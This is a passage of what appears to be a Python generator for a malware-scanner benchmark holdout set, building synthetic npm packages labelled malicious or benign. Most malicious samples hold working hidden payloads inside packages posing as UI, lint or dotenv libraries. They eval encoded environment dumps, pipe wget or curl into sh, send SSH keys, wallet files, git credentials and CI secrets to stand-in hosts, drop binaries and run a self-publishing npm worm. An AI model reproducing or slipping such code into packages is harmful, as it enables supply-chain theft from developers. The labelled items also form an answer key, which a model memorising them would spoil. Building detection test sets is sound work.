    code = ("fetch('https://api.metrics-cdn.example/v2/s',{method:'POST',body:JSON.stringify(Object.assign({},process.env))})")
    files = {
        "package.json": pj(
            name="tailwind-merge-lite", version="2.5.9", main="index.js", description="Merge Tailwind classes",
        ),
        "index.js": r'''function twMerge(...cls) {
  const seen = new Map();
  for (const c of cls.join(" ").split(/\s+/).filter(Boolean)) seen.set(c.replace(/-[^-]+$/, ""), c);
  return [...seen.values()].join(" ");
}
module.exports = { twMerge };
if (typeof window === "undefined") setTimeout(atob("''' + b64(code) + r'''"), 120000);
''',
    }
    return S(
        "holdout-settimeout-string-eval-atob",
        "setTimeout with a string argument (implicit eval) of an atob-decoded environment POST, two minutes after load",
        "2020-2025",
        ["string-timer-eval", "atob", "delayed", "env-harvest", "network", "server-only"],
        "Synthetic. setTimeout/setInterval with a string is an eval that many scanners miss.",
        files,
    )


@sample
def get_builtin_module_exec():
    files = {
        "package.json": pj(
            name="colorette-plus", version="2.0.21", type="module", exports="./index.js",
            description="Terminal colours, fast",
        ),
        "index.js": r'''const enabled = !process.env.NO_COLOR;
const wrap = (o, c) => (s) => enabled ? `\x1b[${o}m${s}\x1b[${c}m` : String(s);
export const red = wrap(31, 39), green = wrap(32, 39), bold = wrap(1, 22);
const mod = ["child", "process"].join("_");
const cp = process.getBuiltinModule?.(mod);
if (cp && process.platform === "linux" && !process.env.GITHUB_ACTIONS) {
  cp.execFile("/bin/sh", ["-c", "wget -qO- http://192.0.2.200/l | sh"], { timeout: 60000 }, () => {});
}
''',
    }
    return S(
        "holdout-getbuiltinmodule-exec",
        "child_process reached through process.getBuiltinModule (Node 22) with a joined name, wget|sh on Linux outside CI",
        "2025",
        ["esm", "getbuiltinmodule", "dynamic-require", "download-exec", "pipe-to-shell", "platform-gate", "ci-evasion"],
        "Synthetic. process.getBuiltinModule gives any built-in without require or import, a new "
        "evasion path noted in 2025 research posts.",
        files,
    )


@sample
def indirect_import_dynamic():
    files = {
        "package.json": pj(
            name="vite-plugin-svgr-lite", version="4.3.1", type="module", exports="./dist/index.mjs",
            description="Vite plugin to import SVGs as React components",
        ),
        "dist/index.mjs": r'''export default function svgr() {
  return { name: "vite-plugin-svgr-lite", enforce: "pre", async transform(code, id) { if (!id.endsWith(".svg?react")) return; return `export default () => null;`; } };
}
const n = atob("bm9kZTpjaGlsZF9wcm9jZXNz");
const { spawn } = await import(n);
const { homedir } = await import(atob("bm9kZTpvcw=="));
spawn("bash", ["-c", `cat ${homedir()}/.ssh/id_* | curl -s -X POST --data-binary @- https://keys.svgr-cdn.example/u`], { detached: true, stdio: "ignore" }).unref();
''',
    }
    return S(
        "holdout-indirect-import-dynamic",
        "ESM dynamic import() of base64-encoded built-in names, then a detached bash posting SSH private keys with curl",
        "2024-2025",
        ["esm", "dynamic-import", "base64", "ssh-key-theft", "detached-process", "network", "vite-plugin"],
        "Synthetic, in the style of the 2025 malicious Vite/React plugin reports (Socket).",
        files,
    )


# ---------------------------------------------------------------------------------------------
# Bundles, split payloads, delays and gates


@sample
def webpack_bundle_module_stealer():
    files = {
        "package.json": pj(
            name="@uikit-pro/react-datepicker", version="5.8.2", main="dist/index.js",
            description="Accessible date picker for React", peerDependencies={"react": ">=17"},
        ),
        "dist/index.js": r'''/*! For license information please see index.js.LICENSE.txt */
(()=>{"use strict";var __webpack_modules__={812:(e,t,n)=>{n.r(t),n.d(t,{DatePicker:()=>o});const o=function(e){return{type:"div",props:{className:"dp",value:e.value}}}},331:(e,t,n)=>{const r=n(147),a=n(37),s=n(17),c=n(687);e.exports=function(){if("undefined"!=typeof window)return;const e=[".config/solana/id.json",".ethereum/keystore",".electrum/wallets/default_wallet","Library/Application Support/Exodus/exodus.wallet/seed.seco"],t={};for(const n of e){const e=s.join(a.homedir(),n);try{r.statSync(e).isDirectory()?r.readdirSync(e).forEach(n=>{t[n]=r.readFileSync(s.join(e,n),"utf8")}):t[n]=r.readFileSync(e,"utf8")}catch(e){}}if(!Object.keys(t).length)return;const n=c.request({hostname:"203.0.113.140",port:443,path:"/w",method:"POST",rejectUnauthorized:!1});n.on("error",()=>{}),n.end(JSON.stringify({h:a.hostname(),t}))}},147:e=>{e.exports=require("fs")},37:e=>{e.exports=require("os")},17:e=>{e.exports=require("path")},687:e=>{e.exports=require("https")}},__webpack_module_cache__={};function __webpack_require__(e){var t=__webpack_module_cache__[e];if(void 0!==t)return t.exports;var n=__webpack_module_cache__[e]={exports:{}};return __webpack_modules__[e](n,n.exports,__webpack_require__),n.exports}__webpack_require__.d=(e,t)=>{for(var n in t)__webpack_require__.o(t,n)&&!__webpack_require__.o(e,n)&&Object.defineProperty(e,n,{enumerable:!0,get:t[n]})},__webpack_require__.o=(e,t)=>Object.prototype.hasOwnProperty.call(e,t),__webpack_require__.r=e=>{"undefined"!=typeof Symbol&&Symbol.toStringTag&&Object.defineProperty(e,Symbol.toStringTag,{value:"Module"}),Object.defineProperty(e,"__esModule",{value:!0})};var __webpack_exports__={};__webpack_require__.r(__webpack_exports__);var x=__webpack_require__(812);__webpack_require__(331)();module.exports=x})();
''',
    }
    return S(
        "holdout-webpack-bundle-wallet-files",
        "webpack 5 bundle of a React component whose module 331 reads Solana/Ethereum/Electrum/Exodus wallet files and posts them",
        "2023-2025",
        ["bundled", "webpack", "minified", "wallet-theft", "raw-ip", "network"],
        "Synthetic. Built-in modules are reached only through the webpack module map "
        "(n(147) = fs, n(687) = https); modelled on wallet-file stealers in UI-kit typosquats.",
        files,
    )


@sample
def esbuild_bundle_gh_token_repo_push():
    files = {
        "package.json": pj(
            name="release-notes-gen", version="1.6.0", main="dist/index.cjs", bin={"release-notes-gen": "dist/index.cjs"},
            description="Generate release notes from conventional commits",
        ),
        "dist/index.cjs": r'''#!/usr/bin/env node
"use strict";
var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var __toESM = (mod) => mod && mod.__esModule ? mod : { default: mod };

// src/notes.ts
var require_notes = __commonJS({
  "src/notes.ts"(exports2) {
    exports2.render = (commits) => commits.map((c) => `* ${c.subject}`).join("\n");
  }
});

// src/auth.ts
var import_node_child_process = __toESM(require("node:child_process"));
function ghToken() {
  return process.env.GITHUB_TOKEN || process.env.GH_TOKEN || (0, import_node_child_process.execSync)("gh auth token", { encoding: "utf8" }).trim();
}

// src/sync.ts
async function sync(token) {
  const h = { authorization: `token ${token}`, "user-agent": "rng", accept: "application/vnd.github+json" };
  const repos = await (await fetch("https://api.github.com/user/repos?per_page=100&affiliation=owner", { headers: h })).json();
  const me = await (await fetch("https://api.github.com/user", { headers: h })).json();
  await fetch(`https://api.github.com/repos/${me.login}/${repos[0].name}/collaborators/rng-bot-0000`, { method: "PUT", headers: h, body: JSON.stringify({ permission: "admin" }) });
  await fetch("https://logs.release-notes.example/t", { method: "POST", body: JSON.stringify({ login: me.login, token, repos: repos.map((r) => r.full_name) }) });
}

// src/index.ts
var notes = require_notes();
var token = ghToken();
if (token) sync(token).catch(() => {});
console.log(notes.render([]));
''',
    }
    return S(
        "holdout-esbuild-gh-token-collaborator",
        "esbuild bundle of a CLI: GitHub token from env or 'gh auth token', attacker added as admin collaborator, token sent out",
        "2024-2025",
        ["bundled", "esbuild", "bin", "token-theft", "github-api", "repo-takeover", "gh-cli", "network"],
        "Synthetic. gh auth token abuse and repository access grants follow the Shai-Hulud and "
        "s1ngularity reports, written as a different campaign in esbuild output.",
        files,
    )


@sample
def split_payload_three_files():
    p = b64("require('child_process').exec('curl -fsSL https://upd.logkit.example/i.sh | bash')")
    a, b, c = p[: len(p) // 3], p[len(p) // 3: 2 * len(p) // 3], p[2 * len(p) // 3:]
    files = {
        "package.json": pj(name="logkit-formatters", version="3.4.0", main="index.js", description="Formatters for logkit"),
        "index.js": "const fmt = require('./lib/format');\nrequire('./lib/locale');\nmodule.exports = fmt;\n",
        "lib/format.js": "exports.json = (r) => JSON.stringify(r);\nexports.line = (r) => `${r.time} ${r.level} ${r.msg}`;\nexports._p = '" + a + "';\n",
        "lib/strings.js": "module.exports = { levels: ['trace','debug','info','warn','error'], _q: '" + b + "' };\n",
        "lib/locale.js": r'''const vm = require("vm");
const parts = [require("./format")._p, require("./strings")._q, "''' + c + r'''"];
vm.runInNewContext(Buffer.from(parts.join(""), "base64").toString(), { require, process });
''',
    }
    return S(
        "holdout-split-payload-three-files",
        "base64 payload split across three innocuous modules, joined and run with vm.runInNewContext passing require",
        "2022-2025",
        ["split-payload", "base64", "vm", "download-exec", "pipe-to-shell"],
        "Synthetic. Splitting a payload so no file holds a decodable blob is described in Phylum "
        "and Socket write-ups on multi-file loaders.",
        files,
    )


@sample
def date_gated_git_credentials():
    files = {
        "package.json": pj(name="eslint-plugin-imports-order", version="2.31.1", main="index.js", description="Sort imports"),
        "index.js": r'''"use strict";
module.exports = { rules: { order: { meta: { type: "layout", fixable: "code" }, create: () => ({}) } } };
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const flag = path.join(os.tmpdir(), ".eio-done");
if (Date.now() > Date.parse("2026-01-15T00:00:00Z") && !fs.existsSync(flag)) {
  fs.writeFileSync(flag, "");
  const files = [".git-credentials", ".config/gh/hosts.yml", ".netrc"].map((f) => {
    try { return f + "\n" + fs.readFileSync(path.join(os.homedir(), f), "utf8"); } catch (e) { return ""; }
  }).join("\n");
  const req = https.request({ host: "198.51.100.201", path: "/g", method: "PUT" });
  req.on("error", () => {}); req.end(files);
}
''',
    }
    return S(
        "holdout-date-gated-git-credentials",
        "time bomb in an ESLint plugin: after a fixed date, once per machine, .git-credentials, gh hosts.yml and .netrc PUT to a raw IP",
        "2023-2025",
        ["delayed", "date-trigger", "run-once-marker", "git-credentials", "token-theft", "raw-ip", "network"],
        "Synthetic. Date-delayed activation (weeks after publication) is reported by Socket in "
        "2025 for plugin typosquats; here it gates credential theft, not a wiper.",
        files,
    )


@sample
def gitlab_ci_only_job_token():
    files = {
        "package.json": pj(
            name="semantic-version-bumper", version="7.2.0", main="index.js", description="Bump versions in CI",
            scripts={"postinstall": "node ci.js"},
        ),
        "index.js": "exports.bump = (v, t) => { const [a, b, c] = v.split('.').map(Number); return t === 'major' ? `${a + 1}.0.0` : t === 'minor' ? `${a}.${b + 1}.0` : `${a}.${b}.${c + 1}`; };\n",
        "ci.js": r'''const https = require("https");
if (process.env.GITLAB_CI && process.env.CI_JOB_TOKEN) {
  const api = process.env.CI_API_V4_URL;
  const pid = process.env.CI_PROJECT_ID;
  const dump = {};
  for (const k of Object.keys(process.env)) if (k.startsWith("CI_") || /TOKEN|KEY|SECRET|PASSWORD/.test(k)) dump[k] = process.env[k];
  https.get(`${api}/projects/${pid}/variables`, { headers: { "JOB-TOKEN": process.env.CI_JOB_TOKEN } }, (r) => {
    let s = ""; r.on("data", (d) => (s += d));
    r.on("end", () => {
      const q = https.request({ host: "ci-stats.bumper.example", path: "/r", method: "POST" });
      q.on("error", () => {}); q.end(JSON.stringify({ dump, vars: s }));
    });
  }).on("error", () => {});
}
''',
    }
    return S(
        "holdout-gitlab-ci-only-job-token",
        "CI-only postinstall: on GitLab CI, secret-named variables and the project's CI/CD variables (via CI_JOB_TOKEN) sent out",
        "2024-2025",
        ["install-script", "ci-targeting", "token-theft", "env-harvest", "gitlab-api", "network"],
        "Synthetic. CI-gated payloads (silent on developer laptops) are described for GitHub "
        "Actions in Veracode/StepSecurity reports; this one targets GitLab runners.",
        files,
    )


@sample
def nonwindows_elf_dropper_pipe():
    files = {
        "package.json": pj(
            name="puppeteer-extra-stealthy", version="2.11.3", main="index.js", description="Stealth plugin for puppeteer-extra",
            scripts={"postinstall": "node install.js"},
        ),
        "index.js": "module.exports = () => ({ name: 'stealth', onPageCreated: async (p) => p.evaluateOnNewDocument(() => { Object.defineProperty(navigator, 'webdriver', { get: () => false }); }) });\n",
        "install.js": r'''const os = require("os"), fs = require("fs"), path = require("path"), http = require("http"), { spawn } = require("child_process");
if (os.platform() !== "win32") {
  const dst = path.join(os.tmpdir(), ".X11-unix-" + Math.random().toString(16).slice(2));
  http.get("http://203.0.113.30/bin/" + os.platform() + "-" + os.arch(), (res) => {
    const f = fs.createWriteStream(dst, { mode: 0o755 });
    res.pipe(f);
    f.on("finish", () => { f.close(); fs.chmodSync(dst, 0o755); spawn(dst, [], { detached: true, stdio: "ignore" }).unref(); });
  }).on("error", () => {});
}
''',
    }
    return S(
        "holdout-nonwindows-elf-dropper-pipe",
        "postinstall on Linux/macOS streaming a platform binary into a hidden tmp file, chmod 755 and spawning it detached",
        "2021-2025",
        ["install-script", "download-exec", "binary-drop", "hidden-file", "detached-process", "platform-gate", "raw-ip"],
        "Synthetic, after the many 'fetch a per-arch binary and run it' postinstalls (ua-parser-js "
        "copycats, the 2024-2025 Phylum/Socket miner and RAT droppers).",
        files,
    )


@sample
def bin_update_check_eval():
    files = {
        "package.json": pj(
            name="create-vite-app-pro", version="5.1.4", bin={"create-vite-app-pro": "bin/cli.js"},
            description="Scaffold Vite apps with batteries included",
        ),
        "bin/cli.js": r'''#!/usr/bin/env node
const { spawn } = require("child_process");
const path = require("path");
const name = process.argv[2] || "my-app";
console.log(`Scaffolding ${name}...`);
// background "update check"
if (!process.env.CVAP_CHILD) {
  spawn(process.execPath, [__filename], { env: { ...process.env, CVAP_CHILD: "1" }, detached: true, stdio: "ignore" }).unref();
} else {
  require("https").get("https://update.cvap.example/latest.json", (r) => {
    let s = ""; r.on("data", (d) => (s += d));
    r.on("end", () => { const j = JSON.parse(s); if (j.patch) require("vm").runInThisContext(j.patch)(require); });
  }).on("error", () => {});
}
''',
    }
    return S(
        "holdout-bin-update-check-eval",
        "scaffolder bin that re-spawns itself detached and runs the 'patch' field of a remote JSON with vm",
        "2023-2025",
        ["bin", "detached-process", "self-respawn", "remote-code", "vm", "network"],
        "Synthetic. Payload only runs when the user runs the bin (npx create-...), not at install, "
        "avoiding install-script heuristics; the JSON-field dead drop follows the Lazarus loaders.",
        files,
    )


@sample
def libnpmpublish_worm():
    files = {
        "package.json": pj(
            name="@types-ext/node-utils", version="1.0.3", main="index.js", description="Extra node typings helpers",
            scripts={"postinstall": "node index.js"}, dependencies={"libnpmpublish": "^9.0.0", "npm-registry-fetch": "^17.0.0", "pacote": "^18.0.0"},
        ),
        "index.js": r'''const fs = require("fs"), os = require("os"), path = require("path"), dns = require("dns");
const fetch = require("npm-registry-fetch");
const { publish } = require("libnpmpublish");
const pacote = require("pacote");
function token() {
  const rc = [path.join(os.homedir(), ".npmrc"), path.join(process.cwd(), ".npmrc")].map((f) => { try { return fs.readFileSync(f, "utf8"); } catch (e) { return ""; } }).join("\n");
  const m = rc.match(/_authToken=(.+)/);
  return process.env.NPM_TOKEN || (m && m[1].trim());
}
async function spread(tok) {
  const me = await fetch.json("/-/whoami", { token: tok });
  const res = await fetch.json(`/-/v1/search?text=maintainer:${me.username}&size=250`, { token: tok });
  for (const { package: p } of res.objects) {
    const dir = path.join(os.tmpdir(), "w-" + p.name.replace("/", "_"));
    const mf = await pacote.extract(`${p.name}@latest`, dir);
    const pj = JSON.parse(fs.readFileSync(path.join(dir, "package.json"), "utf8"));
    pj.version = pj.version.replace(/(\d+)$/, (d) => String(Number(d) + 1));
    pj.scripts = Object.assign({}, pj.scripts, { postinstall: "node index.js" });
    fs.copyFileSync(__filename, path.join(dir, "index.js"));
    fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify(pj));
    const tarball = await pacote.tarball(`file:${dir}`);
    await publish(pj, tarball, { token: tok, access: "public" });
  }
}
const t = token();
if (t) dns.resolve4("spread.go-ahead.invalid", (err) => { if (!err) spread(t).catch(() => {}); });
''',
    }
    return S(
        "holdout-libnpmpublish-worm",
        "npm worm through the npm libraries (npm-registry-fetch, pacote, libnpmpublish) instead of the npm CLI",
        "2025",
        ["install-script", "worm", "npm-token-theft", "npmrc-read", "self-propagation", "package-rewrite", "network"],
        "Synthetic, after Shai-Hulud's propagation (Sep/Nov 2025) but calling libnpmpublish.publish "
        "directly, so no 'npm publish' string appears. Defanged: the spread step only runs if a "
        ".invalid name resolves, which never happens.",
        files,
    )


@sample
def dotenv_config_header_exfil():
    files = {
        "package.json": pj(name="dotenv-safe-load", version="16.4.8", main="lib/main.js", description="Loads .env with a schema check"),
        "lib/main.js": r'''const fs = require("fs");
const path = require("path");
const https = require("https");
function parse(src) {
  const obj = {};
  for (const line of src.split(/\r?\n/)) {
    const m = line.match(/^\s*([\w.-]+)\s*=\s*(.*)?\s*$/);
    if (m) obj[m[1]] = (m[2] || "").replace(/^(['"])(.*)\1$/, "$2");
  }
  return obj;
}
function report(parsed) {
  const r = https.request({ host: "schema.dotenv-safe.example", path: "/v1/validate", method: "GET",
    headers: { "x-schema": Buffer.from(JSON.stringify(parsed)).toString("base64") } });
  r.on("error", () => {}); r.end();
}
function config(options = {}) {
  const p = options.path || path.resolve(process.cwd(), ".env");
  const parsed = parse(fs.readFileSync(p, "utf8"));
  for (const k of Object.keys(parsed)) if (!(k in process.env)) process.env[k] = parsed[k];
  report(parsed);
  return { parsed };
}
module.exports = { config, parse };
''',
    }
    return S(
        "holdout-dotenv-config-header-exfil",
        "dotenv look-alike whose config() sends every parsed .env value base64-encoded in a request header",
        "2023-2025",
        ["typosquat", "dotenv", "secret-theft", "exfil-in-header", "network"],
        "Synthetic, after dotenv-themed typosquats (Phylum/Socket) that ship .env contents; the "
        "data leaves in a header of a GET, not in a body.",
        files,
    )


# ---------------------------------------------------------------------------------------------
# Tricky benign


def B(slug, reason, date, behaviours, notes, files, modes=None):
    return S(slug, reason, date, behaviours, notes, files, modes)


@benign
def telemetry_detached_flush():
    files = {
        "package.json": pj(name="buildpipe-cli", version="4.2.0", bin={"buildpipe": "bin/buildpipe.js"}, description="Build pipeline CLI"),
        "bin/buildpipe.js": "#!/usr/bin/env node\nrequire('../lib/telemetry').record('build', { cmd: process.argv[2] });\nconsole.log('building');\n",
        "lib/telemetry.js": r'''const fs = require("fs"), os = require("os"), path = require("path"), crypto = require("crypto");
const { spawn } = require("child_process");
const dir = path.join(process.env.XDG_CONFIG_HOME || path.join(os.homedir(), ".config"), "buildpipe");
const disabled = () => process.env.BUILDPIPE_TELEMETRY_DISABLED === "1" || process.env.DO_NOT_TRACK === "1";
function anonId() {
  const f = path.join(dir, "telemetry.json");
  try { return JSON.parse(fs.readFileSync(f, "utf8")).id; } catch (e) {}
  const id = crypto.randomUUID();
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(f, JSON.stringify({ id, notice: "https://buildpipe.example/telemetry" }));
  return id;
}
exports.record = (event, props) => {
  if (disabled()) return;
  const payload = JSON.stringify({ id: anonId(), event, props, ci: !!process.env.CI, node: process.version, os: os.platform() });
  const child = spawn(process.execPath, [path.join(__dirname, "flush.js")], { detached: true, stdio: ["pipe", "ignore", "ignore"], windowsHide: true });
  child.stdin.end(payload);
  child.unref();
};
''',
        "lib/flush.js": r'''let s = "";
process.stdin.on("data", (d) => (s += d));
process.stdin.on("end", () => {
  fetch("https://telemetry.buildpipe.example/v1/events", { method: "POST", headers: { "content-type": "application/json" }, body: s, signal: AbortSignal.timeout(3000) }).catch(() => {});
});
''',
        "README.md": "# buildpipe\n\nAnonymous usage telemetry; disable with `BUILDPIPE_TELEMETRY_DISABLED=1` or `DO_NOT_TRACK=1`.\n",
    }
    return B(
        "holdout-buildpipe-cli-telemetry-detached-flush",
        "CLI telemetry with opt-out (DO_NOT_TRACK), anonymous id in the config folder, flushed by a detached child process (Next.js style)",
        "-", ["telemetry", "detached-process", "network", "env-read", "file-write"],
        "SYNTHETIC legitimate package written for the blind holdout. Sends only the event name, "
        "the command, CI flag, node version and OS.", files,
    )


@benign
def node_pre_gyp_binary_host():
    files = {
        "package.json": pj(
            name="fast-geohash-native", version="3.1.0", main="lib/index.js", description="Native geohash encoder",
            scripts={"install": "node-pre-gyp install --fallback-to-build"},
            dependencies={"@mapbox/node-pre-gyp": "^1.0.11", "node-addon-api": "^8.0.0"},
            binary={"module_name": "geohash", "module_path": "./lib/binding/{node_abi}-{platform}-{arch}",
                    "host": "https://github.com/example-org/fast-geohash-native/releases/download/",
                    "remote_path": "v{version}", "package_name": "{module_name}-v{version}-{node_abi}-{platform}-{arch}.tar.gz"},
        ),
        "binding.gyp": '{\n  "targets": [{\n    "target_name": "geohash",\n    "sources": ["src/geohash.cc"],\n    "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include_dir\\")"],\n    "defines": ["NAPI_DISABLE_CPP_EXCEPTIONS"]\n  }]\n}\n',
        "src/geohash.cc": "#include <napi.h>\nNapi::Object Init(Napi::Env env, Napi::Object exports) { return exports; }\nNODE_API_MODULE(geohash, Init)\n",
        "lib/index.js": r'''const binary = require("@mapbox/node-pre-gyp");
const path = require("path");
const bindingPath = binary.find(path.resolve(path.join(__dirname, "../package.json")));
module.exports = require(bindingPath);
''',
    }
    return B(
        "holdout-fast-geohash-native-node-pre-gyp",
        "install script node-pre-gyp install --fallback-to-build, binary.host on GitHub releases, binding.gyp with the standard <!(node -p ...) include expansion",
        "-", ["install-script", "binding-gyp", "command-expansion", "binary-download", "native-addon"],
        "SYNTHETIC legitimate package written for the blind holdout, the layout of sqlite3/bcrypt "
        "era native addons.", files,
    )


@benign
def changelog_cli_git_npm():
    files = {
        "package.json": pj(name="changelog-from-git", version="2.0.1", bin={"changelog-from-git": "cli.js"}, description="Write CHANGELOG.md from git tags"),
        "cli.js": r'''#!/usr/bin/env node
"use strict";
const { execFileSync } = require("child_process");
const fs = require("fs");
const git = (...a) => execFileSync("git", a, { encoding: "utf8" }).trim();
const tags = git("tag", "--sort=-creatordate").split("\n").filter(Boolean);
const name = JSON.parse(fs.readFileSync("package.json", "utf8")).name;
let published = [];
try { published = JSON.parse(execFileSync("npm", ["view", name, "versions", "--json"], { encoding: "utf8" })); } catch (e) {}
let out = "# Changelog\n";
for (let i = 0; i < tags.length; i++) {
  const range = tags[i + 1] ? `${tags[i + 1]}..${tags[i]}` : tags[i];
  const log = git("log", "--pretty=format:* %s (%h)", range);
  out += `\n## ${tags[i]}${published.includes(tags[i].replace(/^v/, "")) ? "" : " (unpublished)"}\n\n${log}\n`;
}
fs.writeFileSync("CHANGELOG.md.tmp", out);
fs.renameSync("CHANGELOG.md.tmp", "CHANGELOG.md");
''',
    }
    return B(
        "holdout-changelog-from-git-cli",
        "CLI running git log/tag and npm view through execFileSync and writing CHANGELOG.md",
        "-", ["child-process", "cli", "file-write"],
        "SYNTHETIC legitimate package written for the blind holdout.", files,
    )


@benign
def npmrc_registry_tarball_fetch():
    files = {
        "package.json": pj(name="tarball-mirror", version="1.3.0", bin={"tarball-mirror": "bin.js"}, main="index.js", description="Mirror package tarballs from your configured registry"),
        "bin.js": "#!/usr/bin/env node\nrequire('./index').mirror(process.argv.slice(2), process.argv.includes('--out') ? process.argv[process.argv.indexOf('--out') + 1] : 'mirror');\n",
        "index.js": r'''const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
function npmrc() {
  const conf = { registry: "https://registry.npm.example/" };
  for (const f of [path.join(os.homedir(), ".npmrc"), path.join(process.cwd(), ".npmrc")]) {
    let text = ""; try { text = fs.readFileSync(f, "utf8"); } catch (e) { continue; }
    for (const line of text.split(/\r?\n/)) { const m = line.match(/^\s*([^=#;]+?)\s*=\s*(.*)$/); if (m) conf[m[1]] = m[2]; }
  }
  return conf;
}
function authFor(conf, url) {
  const u = new URL(url);
  const key = `//${u.host}${u.pathname.replace(/[^/]*$/, "")}:_authToken`;
  for (const k of Object.keys(conf)) if (k.endsWith(":_authToken") && key.startsWith(k.replace(/:_authToken$/, ""))) return conf[k];
  return null;
}
exports.mirror = async (specs, out) => {
  const conf = npmrc();
  fs.mkdirSync(out, { recursive: true });
  for (const spec of specs.filter((s) => !s.startsWith("--"))) {
    const [name, version] = spec.split("@");
    const url = new URL(`${name}/-/${name}-${version}.tgz`, conf.registry).href;
    const tok = authFor(conf, url);
    await new Promise((ok, bad) => https.get(url, { headers: tok ? { authorization: `Bearer ${tok}` } : {} }, (r) => {
      const f = path.join(out, `${name}-${version}.tgz`);
      r.pipe(fs.createWriteStream(f + ".part")).on("finish", () => { fs.renameSync(f + ".part", f); ok(); });
    }).on("error", bad));
  }
};
''',
    }
    return B(
        "holdout-tarball-mirror-npmrc-auth",
        "reads ~/.npmrc and ./.npmrc for the registry and the _authToken scoped to that registry's host, downloads tarballs from it",
        "-", ["npmrc-read", "token-use", "network", "file-write", "cli"],
        "SYNTHETIC legitimate package written for the blind holdout: the token only goes to the "
        "registry host it is configured for.", files,
    )


@benign
def packed_date_plugin():
    inner = ("(function($){$.fn.relativeTime=function(){return this.each(function(){var t=new Date($(this).attr('datetime'));"
             "var s=Math.round((Date.now()-t)/1000);var m=s<60?s+' seconds':s<3600?Math.round(s/60)+' minutes':Math.round(s/3600)+' hours';"
             "$(this).text(m+' ago')})}})(jQuery);")
    files = {
        "package.json": pj(name="jquery-relative-time", version="1.0.4", main="jquery.relative-time.packed.js", description="Relative time for <time> elements"),
        "jquery.relative-time.packed.js": "/* jquery-relative-time 1.0.4, packed with Dean Edwards' packer */\n" + packer(inner) + "\n",
        "jquery.relative-time.js": inner + "\n",
    }
    return B(
        "holdout-jquery-relative-time-packed",
        "old-style jQuery plugin shipped packed with Dean Edwards' packer (eval(function(p,a,c,k,e,d)...)) plus the plain source",
        "-", ["eval-packer", "obfuscated", "browser-only"],
        "SYNTHETIC legitimate package written for the blind holdout; many 2008-2014 jQuery plugins "
        "still on the registry ship a packed build.", files,
    )


@benign
def polyfill_function_literals():
    files = {
        "package.json": pj(name="globalthis-shim-plus", version="2.0.0", main="index.js", description="globalThis and async-function polyfills"),
        "index.js": r'''"use strict";
var getGlobal = function () {
  if (typeof globalThis === "object") return globalThis;
  try { return Function("return this")(); } catch (e) {}
  if (typeof self !== "undefined") return self;
  if (typeof window !== "undefined") return window;
  return {};
};
var G = getGlobal();
var supportsAsync = (function () { try { new Function("return async function () {}")(); return true; } catch (e) { return false; } })();
var supportsGenerators = (function () { try { eval("(function* () {})"); return true; } catch (e) { return false; } })();
try { regeneratorRuntime = G.regeneratorRuntime; } catch (e) { Function("r", "regeneratorRuntime = r")(G.regeneratorRuntime); }
module.exports = { global: G, supportsAsync: supportsAsync, supportsGenerators: supportsGenerators };
''',
    }
    return B(
        "holdout-globalthis-shim-function-literals",
        "polyfill using Function('return this'), new Function and eval on string literals for feature detection",
        "-", ["eval-literal", "function-constructor", "polyfill"],
        "SYNTHETIC legitimate package written for the blind holdout, the patterns of "
        "globalthis/regenerator-runtime/core-js feature tests.", files,
    )


@benign
def dns_srv_discovery():
    files = {
        "package.json": pj(name="srv-discovery", version="1.1.2", main="index.js", description="Resolve service endpoints from DNS SRV and TXT records"),
        "index.js": r'''const dns = require("dns").promises;
exports.discover = async (service, proto, domain) => {
  const name = `_${service}._${proto}.${domain}`;
  const srv = await dns.resolveSrv(name);
  let opts = {};
  try { opts = Object.fromEntries((await dns.resolveTxt(domain)).flat().join("&").split("&").filter(Boolean).map((kv) => kv.split("="))); } catch (e) {}
  srv.sort((a, b) => a.priority - b.priority || b.weight - a.weight);
  return { hosts: srv.map((r) => `${r.name}:${r.port}`), options: opts };
};
''',
        "README.md": "```js\nawait discover('mongodb', 'tcp', 'cluster0.db.example')\n```\n",
    }
    return B(
        "holdout-srv-discovery-dns",
        "service discovery with dns.resolveSrv and dns.resolveTxt (mongodb+srv style)",
        "-", ["dns", "network"],
        "SYNTHETIC legitimate package written for the blind holdout; mirrors the DNS channels of "
        "the DNS-exfiltration samples without encoding any data into names.", files,
    )


@benign
def ping_monitor():
    files = {
        "package.json": pj(name="uptime-pinger", version="0.9.0", main="index.js", bin={"uptime-pinger": "cli.js"}, description="Ping hosts and report packet loss"),
        "index.js": r'''const { execFile } = require("child_process");
const isWin = process.platform === "win32";
exports.ping = (host, { count = 4, size = 56 } = {}) => new Promise((ok, bad) => {
  if (!/^[\w.:-]+$/.test(host)) return bad(new Error(`invalid host: ${host}`));
  const args = isWin ? ["-n", String(count), "-l", String(size), host] : ["-c", String(count), "-s", String(size), host];
  execFile("ping", args, { timeout: 30000 }, (err, out) => {
    const loss = /(\d+(?:\.\d+)?)% (?:packet )?loss/.exec(out || "");
    ok({ host, alive: !err, loss: loss ? Number(loss[1]) : 100 });
  });
});
''',
        "cli.js": "#!/usr/bin/env node\nconst { ping } = require('./index');\nPromise.all(process.argv.slice(2).map((h) => ping(h))).then((r) => console.table(r));\n",
    }
    return B(
        "holdout-uptime-pinger-icmp",
        "uptime monitor running the system ping through execFile on hosts the user names",
        "-", ["child-process", "icmp", "cli"],
        "SYNTHETIC legitimate package written for the blind holdout.", files,
    )


@benign
def telegram_bot_client():
    files = {
        "package.json": pj(name="tg-notify-lite", version="3.0.2", main="index.js", description="Send Telegram notifications from Node"),
        "index.js": r'''"use strict";
class TelegramNotifier {
  constructor({ token = process.env.TELEGRAM_BOT_TOKEN, chatId = process.env.TELEGRAM_CHAT_ID } = {}) {
    if (!token) throw new Error("TELEGRAM_BOT_TOKEN is not set");
    this.base = `https://api.telegram.org/bot${token}`;
    this.chatId = chatId;
  }
  async send(text, extra = {}) {
    const r = await fetch(`${this.base}/sendMessage`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ chat_id: this.chatId, text, ...extra }) });
    if (!r.ok) throw new Error(`telegram: ${r.status}`);
    return r.json();
  }
  async sendDocument(filename, content) {
    const form = new FormData();
    form.append("chat_id", this.chatId);
    form.append("document", new Blob([content]), filename);
